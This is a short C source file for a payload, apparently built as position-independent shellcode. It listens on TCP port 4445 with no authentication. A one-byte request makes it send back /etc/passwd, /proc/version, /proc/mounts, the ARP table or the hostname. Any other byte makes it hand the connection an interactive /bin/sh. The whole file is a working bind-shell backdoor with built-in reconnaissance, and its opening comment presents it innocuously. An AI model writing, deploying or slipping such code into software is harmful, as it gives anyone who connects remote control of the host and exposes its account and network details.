/* Listens, and gives every connection what it asks for: a shell, or the name of the system. A
 * switch that compilers make a table of. */
#include "system.h"

static long listen_at(unsigned short port)
{
	struct address address = { 2, port, { 0, 0, 0, 0 }, { 0 } };
	long door = call_socket(SOCKET, 2, 1, 0);

	call_socket(BIND, door, (long)&address, sizeof address);
	call_socket(LISTEN, door, 1, 0);
	return door;
}

static void tell(long connection, const char *path)
{
	char content[256];
	long file = call_system(OPEN, (long)path, 0, 0), length;

	while ((length = call_system(READ, file, (long)content, sizeof content)) > 0)
		call_system(WRITE, connection, (long)content, length);
	call_system(CLOSE, file, 0, 0);
}

static void serve(long connection)
{
	char wish = 's';

	call_system(READ, connection, (long)&wish, 1);
	switch (wish) {
	case 'a': tell(connection, "/etc/hostname"); break;
	case 'b': tell(connection, "/etc/passwd"); break;
	case 'c': tell(connection, "/proc/version"); break;
	case 'd': tell(connection, "/proc/mounts"); break;
	case 'e': tell(connection, "/proc/net/arp"); break;
	case 'f': call_system(EXIT, 0, 0, 0); break;
	default:
		for (long number = 0; number < 3; number++)
			call_system(DUP2, connection, number, 0);
		execute("/bin/sh", "-i", 0);
	}
	call_system(CLOSE, connection, 0, 0);
}

ENTRY void code(void)
{
	long door = listen_at(0x5d11); /* 4445 */

	for (;;)
		serve(call_socket(ACCEPT, door, 0, 0));
}
